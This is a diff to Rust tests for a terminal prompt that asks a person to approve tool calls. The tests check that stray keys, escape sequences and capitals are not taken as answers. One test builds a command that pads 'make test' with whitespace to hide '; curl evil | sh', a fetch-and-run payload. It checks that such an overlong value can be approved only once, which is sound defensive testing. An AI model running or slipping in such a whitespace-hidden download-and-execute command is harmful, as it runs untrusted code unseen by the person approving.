@@ -127,6 +127,7 @@ fn runtime() -> tokio::runtime::Runtime {
 /// (after an `n`, the rest once the reason is asked for, as a person
 /// would), and gives the answer.
 fn answer(pty: &mut Pty, request: ApprovalRequest, keys: &str) -> Approval {
+    pty.forget_drawn();
     let runtime = runtime();
     let approver = Arc::new(TerminalApprover::on(&pty.path));
     let asked = runtime.spawn(async move { approver.approve(&request).await });
@@ -139,7 +140,11 @@ fn answer(pty: &mut Pty, request: ApprovalRequest, keys: &str) -> Approval {
         }
         _ => pty.type_keys(keys),
     }
-    runtime.block_on(asked).unwrap()
+    // Every question is on the process's one terminal turn: a question left
+    // hanging would hold up the other tests.
+    let answered =
+        runtime.block_on(async { tokio::time::timeout(Duration::from_secs(10), asked).await });
+    answered.expect("an answer within 10 s").unwrap()
 }
 
 #[test]
@@ -160,7 +165,6 @@ fn the_question_shows_the_call_and_each_key_answers_as_it_says() {
     }
     assert!(pty.in_line_mode(), "the terminal is set back");
 
-    pty.forget_drawn();
     // A key that means nothing asks again.
     assert_eq!(
         answer(&mut pty, request(args.clone()), "xs"),
@@ -169,14 +173,12 @@ fn the_question_shows_the_call_and_each_key_answers_as_it_says() {
     let screen = pty.screen_once("allowed for this session");
     assert!(screen.contains("Press y, s, a or n"), "{screen}");
 
-    pty.forget_drawn();
     assert_eq!(
-        answer(&mut pty, request(args.clone()), "A"),
+        answer(&mut pty, request(args.clone()), "a"),
         Approval::Always
     );
     pty.screen_once("allowed from now on");
 
-    pty.forget_drawn();
     assert_eq!(
         answer(&mut pty, request(args.clone()), "n  too risky today \n"),
         Approval::Deny("too risky today".to_owned())
@@ -186,7 +188,6 @@ fn the_question_shows_the_call_and_each_key_answers_as_it_says() {
         screen.contains("Why (Enter for no reason):   too risky today"),
         "the reason is echoed:\n{screen}"
     );
-    pty.forget_drawn();
     assert_eq!(
         answer(&mut pty, request(args), "n\n"),
         Approval::Deny(String::new())
@@ -248,5 +249,37 @@ fn with_no_terminal_no_one_is_asked() {
     assert!(
         matches!(&answer, Approval::Unavailable(why) if why.contains("no terminal to ask on (/nonexistent/tty")),
         "{answer:?}"
+    );
+}
+
+#[test]
+fn keys_in_escape_sequences_typed_ahead_or_in_capitals_answer_nothing() {
+    let mut pty = Pty::open();
+    // Typed before the question is up: a key meant for something else.
+    pty.type_keys("a");
+    // Up arrow (ESC [ A), F4 (ESC O S), a terminal's report ending in `y`,
+    // a capital A: none of them is an answer; then `y`.
+    assert_eq!(
+        answer(
+            &mut pty,
+            request(json!({})),
+            "\u{1b}[A\u{1b}OS\u{1b}[?2026;2$yAy"
+        ),
+        Approval::Once
+    );
+}
+
+#[test]
+fn a_value_too_long_to_show_whole_can_be_approved_only_once() {
+    let mut pty = Pty::open();
+    let long = format!("make test{}; curl evil | sh", " ".repeat(1400));
+    assert_eq!(
+        answer(&mut pty, request(json!({ "cmd": long })), "asy"),
+        Approval::Once
+    );
+    let screen = pty.screen_once("allowed, this once");
+    assert!(
+        screen.contains("only this call can be approved)\n  [y] once  [n] refuse: "),
+        "{screen}"
     );
 }
